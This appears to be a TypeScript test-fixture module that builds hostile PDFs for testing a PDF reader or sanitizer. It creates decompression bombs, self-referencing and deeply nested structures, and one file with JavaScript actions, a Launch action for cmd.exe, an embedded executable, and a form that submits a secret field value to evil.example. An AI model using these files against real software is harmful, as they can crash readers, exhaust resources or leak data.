// PDFs that tests write byte by byte, those that no program writes among them.
import { Readable } from 'node:stream';
import { createDeflate, deflateSync } from 'node:zlib';

/** Writes a PDF of these objects; the first one is its catalog. */
export function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [i, object] of objects.entries()) {
    offsets.push(length);
    const part = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(part);
    length += part.length;
  }
  const lines = offsets.map((each) => `${String(each).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${length}\n%%EOF`;
  return Buffer.concat([...parts, Buffer.from(table)]);
}

export const streamOf = (dict: string, data: Buffer | string): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${dict}/Length ${data.length}>>\nstream\n`),
    Buffer.from(data),
    Buffer.from('\nendstream'),
  ]);

export const CATALOG = '<</Type/Catalog/Pages 2 0 R>>';
export const pagesOf = (kids = '[3 0 R]', count = 1): string =>
  `<</Type/Pages/Kids ${kids}/Count ${count}>>`;
export const pageOf = (more = ''): string =>
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${more}>>`;

/** A form of one page with a text field for each name, on lines of their own. */
export function formPdf(names: readonly string[], label = ''): Buffer {
  const refs = names.map((_, i) => `${i + 5} 0 R`).join(' ');
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[${refs}]/DA(/Helv 0 Tf)>>>>`,
    pagesOf(),
    pageOf(`/Contents 4 0 R/Annots[${refs}]`),
    streamOf('', '0 0 0 RG 40 40 515 762 re S'),
    ...names.map((name, i) => {
      const bottom = 760 - 30 * i;
      const label_ = label && `/TU(${label})`;
      return `<</Type/Annot/Subtype/Widget/FT/Tx/T(${name})${label_}/P 3 0 R/Rect[60 ${bottom} 300 ${bottom + 20}]>>`;
    }),
  ]);
}

/** A gigabyte of spaces, packed into one megabyte. */
async function gigabyte(): Promise<Buffer> {
  const mebibyte = Buffer.alloc(1 << 20, 32);
  const all = Readable.from(Array.from({ length: 1024 }, () => mebibyte));
  return Buffer.concat(await all.pipe(createDeflate({ level: 9 })).toArray());
}

/** A bomb where each reader unpacks it, and where none does until a page is shown. */
export async function bombs(): Promise<Readonly<Record<string, Buffer>>> {
  const one = await gigabyte();
  const flate = (dict: string) => streamOf(`${dict}/Filter/FlateDecode`, one);
  const picture = '/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/DeviceGray';
  const shows = (object: Buffer) =>
    pdfOf([
      CATALOG,
      pagesOf(),
      pageOf('/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>'),
      streamOf('', '500 0 0 500 0 0 cm /A Do'),
      object,
    ]);
  return {
    'in the content of a page': pdfOf([CATALOG, pagesOf(), pageOf('/Contents 4 0 R'), flate('')]),
    'packed twice': pdfOf([
      CATALOG,
      pagesOf(),
      pageOf('/Contents 4 0 R'),
      streamOf('/Filter[/FlateDecode/FlateDecode]', deflateSync(one, { level: 9 })),
    ]),
    'in the table of objects': xrefBomb(one),
    'in a drawing that the page shows': shows(flate('/Type/XObject/Subtype/Form/BBox[0 0 1 1]')),
    'as a small picture': shows(flate(`${picture}/Width 8/Height 8`)),
    'as a picture of a thousand megapixels': shows(flate(`${picture}/Width 32768/Height 32768`)),
  };
}

function xrefBomb(one: Buffer): Buffer {
  const head = Buffer.from('%PDF-1.7\n');
  const objects = Buffer.from(
    `1 0 obj\n${CATALOG}\nendobj\n2 0 obj\n${pagesOf()}\nendobj\n3 0 obj\n${pageOf()}\nendobj\n`,
  );
  const table = Buffer.concat([
    Buffer.from('4 0 obj\n'),
    streamOf('/Type/XRef/W[1 4 2]/Size 150000000/Root 1 0 R/Filter/FlateDecode', one),
    Buffer.from('\nendobj\n'),
  ]);
  const end = Buffer.from(`startxref\n${head.length + objects.length}\n%%EOF`);
  return Buffer.concat([head, objects, table, end]);
}

/** PDFs whose structure leads readers astray. */
export const astray = (): Readonly<Record<string, Buffer>> => ({
  'a tree of pages that contains itself': pdfOf([CATALOG, pagesOf('[2 0 R]')]),
  'more pages than it has': pdfOf([CATALOG, pagesOf('[3 0 R]', 2_147_483_647), pageOf()]),
  'one page a million times': pdfOf([CATALOG, pagesOf(`[${'3 0 R '.repeat(1e6)}]`, 1e6), pageOf()]),
  'a tree that doubles thirty times': pdfOf([
    CATALOG,
    ...Array.from(
      { length: 30 },
      (_, i) => `<</Type/Pages/Kids[${i + 3} 0 R ${i + 3} 0 R]/Count ${2 ** (30 - i)}>>`,
    ),
    '<</Type/Page/MediaBox[0 0 595 842]>>',
  ]),
  'lists in lists, 200,000 deep': pdfOf([
    CATALOG,
    pagesOf(),
    pageOf(`/X ${'['.repeat(200_000)}${']'.repeat(200_000)}`),
  ]),
  'a page of a million kilometres': pdfOf([
    CATALOG,
    pagesOf(),
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1000000000 1000000000]>>',
  ]),
});

/** A PDF that does everything a PDF can do, and names its author. */
export const busyPdf = (): Buffer =>
  pdfOf(
    [
      `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('hi'\\))>>/AA<</WC<</S/JavaScript/JS(x)>>>>/Names<</JavaScript<</Names[(a) <</S/JavaScript/JS(y)>>]>>/EmbeddedFiles<</Names[(e.exe) 6 0 R]>>>>/AcroForm<</Fields[5 0 R]/XFA(x)>>/Metadata 8 0 R>>`,
      pagesOf(),
      pageOf(
        '/Contents 11 0 R/Annots[4 0 R 5 0 R 9 0 R]/AA<</O<</S/Launch/F(cmd.exe)>>>>/PieceInfo<</X<</Private(SECRET)>>>>/Resources<</XObject<</Do 12 0 R>>>>',
      ),
      '<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(http://evil.example/x)>>>>',
      '<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/V(SECRETVALUE)/Rect[100 100 200 120]/A<</S/SubmitForm/F(http://evil.example/s)>>/AA<</K<</S/JavaScript/JS(z)>>>>/P 3 0 R>>',
      '<</Type/Filespec/F(e.exe)/EF<</F 7 0 R>>>>',
      streamOf('/Type/EmbeddedFile', 'MZSECRET'),
      streamOf('/Type/Metadata/Subtype/XML', '<x>SECRETAUTHOR</x>'),
      '<</Type/Annot/Subtype/FileAttachment/FS 6 0 R/Rect[0 0 20 20]>>',
      '<</Author(SECRETAUTHOR)>>',
      streamOf('', '/Do Do'),
      streamOf(
        '/Type/XObject/Subtype/Form/BBox[0 0 10 10]/Metadata 8 0 R/StructParent 1/Ref<</F(http://evil.example/y)>>/PieceInfo<</X(SECRET)>>',
        '0 0 5 5 re f',
      ),
    ],
    '/Info 10 0 R',
  );
